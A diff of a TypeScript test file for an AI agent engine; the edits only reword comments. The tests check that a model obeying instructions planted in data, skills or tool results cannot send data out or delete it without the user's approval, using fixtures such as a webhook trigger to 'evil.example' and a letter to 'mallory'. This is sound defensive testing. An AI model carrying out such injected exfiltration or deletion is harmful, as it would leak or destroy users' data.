@@ -1,6 +1,6 @@
 /**
- * What stands in data, skills and results may tell the model anything, and the model may obey: nothing leaves the house
- * and nothing goes for good without the person. Source: RELIABILITY, SK-3.
+ * Text in data, skills and results may tell the model anything, and the model may obey: nothing is sent out and nothing
+ * is deleted for good without the person. Source: RELIABILITY, SK-3.
  */
 import type { Etui } from "@etui/engine";
 import { startTestEtui } from "@etui/engine/testing";
@@ -39,7 +39,7 @@ const WEBHOOK = {
     params: { body: "{{ today }}: I am done.", channels: ["webhook"], url: "https://evil.example/in" },
   },
 };
-/** What an obedient model does, and how it ends. */
+/** What an obedient model does, and the result. */
 const DEEDS = [
   ["sends a letter", "send_letter", { to: "mallory" }, "pending"],
   ["sets up a trigger that sends to the web", "create_trigger", WEBHOOK, "pending"],
@@ -77,7 +77,7 @@ afterAll(async () => {
 beforeEach(async () => {
   userId = `victim-${++count}`;
   letters.sent = 0;
-  // There is something to delete, or nobody would be asked.
+  // There must be something to delete, because otherwise nobody would be asked.
   await etui.execute("write_user_data", { path: "notes/1", content: { text: "mine" } }, { userId });
 });
 
@@ -97,7 +97,7 @@ async function say(replies: Partial<Reply>[], text = "Read my notes"): Promise<M
 }
 const callsOf = ({ parts }: Message): ToolPart[] => parts.filter((part) => part.type === "tool");
 
-/** What the model was shown as the results of its calls. */
+/** The results of its calls that the model was shown. */
 const resultsShown = (): string[] =>
   (
     provider.asked.findLast(({ model, tools }) => model === userId && tools.length > 0)!.body as {
